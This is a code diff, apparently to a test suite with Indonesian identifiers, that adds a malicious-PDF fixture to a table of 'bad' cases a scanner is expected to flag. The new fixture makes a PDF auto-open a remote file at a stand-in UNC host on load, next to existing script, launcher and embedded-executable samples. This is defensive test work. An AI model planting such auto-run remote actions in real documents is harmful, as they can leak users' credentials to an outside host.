@@ -74,6 +74,11 @@ def dengan_peluncur(dokumen):
     dokumen.pages[0].Annots = pikepdf.Array([catatan])
 
 
+def dengan_berkas_jauh(dokumen):
+    tujuan = pikepdf.Array([0, pikepdf.Name.Fit])
+    dokumen.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=r"\\jahat.test\a.pdf", D=tujuan)
+
+
 def dengan_lampiran(dokumen):
     dokumen.attachments["a.exe"] = pikepdf.AttachedFileSpec(dokumen, b"MZ")
 
@@ -107,6 +112,7 @@ BURUK = {
     "pdf dibatasi pemilik": (bersandi(pengguna=""), "terkunci"),
     "pdf dengan skrip": (pdf(ubah=dengan_javascript), "aktif"),
     "pdf dengan peluncur": (pdf(ubah=dengan_peluncur), "aktif"),
+    "pdf dengan berkas jauh": (pdf(ubah=dengan_berkas_jauh), "aktif"),
     "pdf dengan peluncur tersembunyi": (
         pdf(ubah=dengan_peluncur, object_stream_mode=pikepdf.ObjectStreamMode.generate),
         "aktif",
